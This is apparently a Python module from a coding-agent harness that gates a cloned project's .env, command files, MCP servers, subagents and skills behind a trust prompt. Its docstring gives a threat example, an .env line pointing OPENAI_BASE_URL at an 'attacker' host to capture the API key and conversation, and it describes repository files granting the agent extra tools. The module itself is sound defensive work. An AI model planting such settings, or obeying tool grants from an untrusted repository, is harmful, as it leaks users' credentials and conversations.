"""What a project brings besides its settings files that needs your trust before it counts.

A cloned repository is someone else's. Its settings files are gated in agent/config/settings.py;
these are the other ways it could act without being asked:

    <project>/.env                  OPENAI_BASE_URL=http://attacker/v1 would send the key and
                                    the conversation there; AGENT_MODEL, OPENAI_API_KEY, ...
    .agent/commands/*.md            `allowed-tools: Bash` in a command's frontmatter would
    .claude/commands/*.md           grant itself tools for its turn
    .mcp.json                       MCP servers: programs the repository names, started
                                    with your environment (agent/mcp/servers.py)
    .agent/agents/*.md              a subagent's instructions and tools, and a skill's
    .claude/skills/*/SKILL.md       (agent/config/definitions.py): offered to the model

Each becomes a line of the trust question ("the project has settings that would change what
the agent may do"); until the project is trusted, the `.env` is not read for the harness's
own settings, the commands' allowed-tools do not count, and the project's subagents and
skills are not offered. A `.env` above the project (your
own folder) is yours and is read as before. Memory files and their `@imports` are read, but
not where they lead outside the project (agent/context/memory_files.py).
Claude Code counterpart: the folder trust dialog.
"""

from __future__ import annotations

import re
from pathlib import Path

SENSITIVE = ("OPENAI_API_KEY",)  # named, never shown


def dotenv_lines(cwd: Path, project: Path) -> list[str]:
    """The harness settings the project's own `.env` would set, one line each."""
    from dotenv import dotenv_values

    from agent.config.config import ENV_NAMES, find_dotenv

    path = find_dotenv(cwd.resolve())
    if path is None or not path.resolve().is_relative_to(project.resolve()):
        return []
    values = dotenv_values(path)
    lines = []
    for var in ENV_NAMES.values():
        if values.get(var):
            shown = "(a value)" if var in SENSITIVE else values[var][:80]
            lines.append(f"{var}={shown} in {path}")
    return lines


def command_lines(project: Path) -> list[str]:
    """Project commands whose frontmatter grants tools (`allowed-tools:`)."""
    lines = []
    for folder in (".agent", ".claude"):
        for path in sorted((project / folder / "commands").rglob("*.md")):
            try:
                head = path.read_text(encoding="utf-8", errors="replace")[:4000]
            except OSError:
                continue
            front = re.match(r"---\n(.*?)\n---", head, re.S)
            if front and re.search(r"^allowed-tools\s*:", front.group(1), re.M):
                lines.append(f"allowed-tools of the command {path}")
    return lines


def definition_lines(project: Path) -> list[str]:
    """The project's own subagents and skills (agent/config/definitions.py), one line each."""
    lines = []
    for folder in (".agent", ".claude"):
        for kind, pattern in (("agents", "*.md"), ("skills", "*/SKILL.md")):
            root = project / folder / kind
            lines += [f"the {kind[:-1]} {path}" for path in sorted(root.glob(pattern))]
    return lines


def mcp_lines(project: Path) -> list[str]:
    """The MCP servers of the project's .mcp.json, one line (each is also approved once)."""
    import json

    path = project / ".mcp.json"
    try:
        servers = json.loads(path.read_text(encoding="utf-8")).get("mcpServers")
    except (OSError, ValueError, AttributeError):
        return [f"{path}"] if path.exists() else []  # unreadable: still something to trust
    return [f"MCP servers {', '.join(servers)} in {path}"] if isinstance(servers, dict) and servers else []
